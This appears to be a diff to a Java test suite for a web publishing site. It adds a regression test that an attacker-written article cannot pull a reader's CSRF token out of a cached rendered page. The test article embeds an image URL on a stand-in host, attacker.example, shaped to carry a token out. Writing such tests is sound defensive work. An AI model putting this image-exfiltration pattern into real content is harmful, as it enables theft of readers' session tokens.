@@ -263,12 +263,33 @@ abstract class ReaderPagesContract {
 		String firstToken = one.html().selectFirst("form[action$=/share] input[name=_csrf]").val();
 		String secondToken = two.html().selectFirst("form[action$=/share] input[name=_csrf]").val();
 		assertThat(secondToken).isNotBlank().isNotEqualTo(firstToken);
-		assertThat(two.html().outerHtml()).doesNotContain(io.inkstone.site.RenderedArticlePages.CSRF_HOLE).doesNotContain("9111111111111");
+		assertThat(two.html().outerHtml()).doesNotContain("900000");
 		assertThat(one.testId("read-count").text()).contains(Long.toString(readsAfterFirst));
 		assertThat(two.testId("read-count").text()).contains(Long.toString(readsAfterFirst + 1));
 		// the token in the served form is the one the server accepts for this reader
 		assertThat(second.post("/articles/" + id + "/share", Map.of("_csrf", secondToken)).statusCode()).isEqualTo(302);
 		assertThat(second.page("/articles/" + id).testId("share-count").text()).startsWith(Long.toString(engagement.counts(id).shares()));
+	}
+
+	@Test
+	void contentCannotCarryAReadersTokenOutOfTheRenderedPageCache() throws IOException {
+		// the markers the cache once used, written into an article as an attacker would
+		String line = "{\"id\":\"csrf-bait\",\"creator\":\"bait\",\"channel\":\"qu\",\"title\":\"诱饵 inkstone-csrf-hole-5d1f0c3a\","
+				+ "\"body_markdown\":\"![p](https://attacker.example/p.png?t=inkstone-csrf-hole-5d1f0c3a)\\n\\n9,111,111,111,111 9111111111111\","
+				+ "\"published_at\":\"2024-01-01T08:00:00+08:00\"}\n";
+		importer.importLines(new java.io.ByteArrayInputStream(line.getBytes(java.nio.charset.StandardCharsets.UTF_8)), null);
+		long id = jdbc.sql("SELECT id FROM articles WHERE import_key = 'id:csrf-bait'").query(Long.class).single();
+		for (int i = 0; i < 2; i++) { // the first view fills the cache, the second is served from it
+			Browser reader = browser();
+			Browser.Page page = reader.page("/articles/" + id);
+			String token = page.html().selectFirst("form[action$=/share] input[name=_csrf]").val();
+			assertThat(token).isNotBlank();
+			Element image = page.testId("body").selectFirst("img");
+			assertThat(image.attr("src")).isEqualTo("https://attacker.example/p.png?t=inkstone-csrf-hole-5d1f0c3a");
+			assertThat(page.testId("body").text()).contains("9111111111111");
+			assertThat(page.html().outerHtml().split(java.util.regex.Pattern.quote(token), -1).length - 1)
+				.as("the token appears only in the forms").isEqualTo(page.html().select("input[name=_csrf]").size());
+		}
 	}
 
 	@Test
